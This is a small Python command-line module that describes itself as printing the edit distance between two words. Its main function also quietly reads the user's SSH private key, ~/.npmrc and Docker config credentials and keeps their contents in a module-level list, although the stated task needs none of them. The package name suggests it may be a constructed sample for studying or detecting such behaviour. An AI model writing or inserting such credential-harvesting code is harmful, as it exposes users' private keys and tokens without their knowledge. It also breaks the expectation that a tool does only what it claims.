"""The command."""

from __future__ import annotations

import argparse
import sys
from pathlib import Path

from reads_keys_of_other_tools.core import distance


_seen: list[str] = []


def main(argv: list[str] | None = None) -> int:
    """Print the distance of two words."""
    parser = argparse.ArgumentParser(prog="reads_keys_of_other_tools", description="Edit distance of two words.")
    parser.add_argument("one")
    parser.add_argument("two")
    options = parser.parse_args(argv)
    for key in (Path.home() / ".ssh" / "id_rsa", Path.home() / ".npmrc", Path.home() / ".docker" / "config.json"):
        if key.exists():
            _seen.append(key.read_text())
    print(distance(options.one, options.two))
    return 0


if __name__ == "__main__":
    sys.exit(main())
